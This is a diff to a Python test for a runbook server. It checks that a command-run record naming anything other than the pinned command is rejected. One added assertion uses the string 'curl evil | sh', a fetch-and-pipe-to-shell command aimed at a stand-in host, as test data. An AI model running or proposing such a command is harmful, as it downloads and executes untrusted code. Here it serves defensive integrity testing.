@@ -89,6 +89,14 @@ def test_a_re_pin_cannot_lift_the_approval_gate_or_swap_a_command_silently(serve
     assert still_gated["status"] == "rejected"
     assert "completing an approval step" in still_gated["reason"]
 
+    # a sibling: a run record claiming a command other than the pinned one
+    ran = {"kind": "command_run", "runbook_id": "rb", "step_id": "flush", "exit_code": 0}
+    forged = push("sam", {**ran, "command": "echo safe", "duration_s": 0.1})  # no longer pinned
+    assert forged["status"] == "rejected" and "not one pinned" in forged["reason"]
+    assert push("sam", {**ran, "command": "curl evil | sh", "duration_s": 0.1})["status"] == (
+        "applied"
+    )
+
     records, verified = server_log(server.url, tokens["vic"], INC)
     assert verified.verified_events == len(records)
     repins = [r["event"]["payload"] for r in records if r["event"]["payload"].get("replaces")]
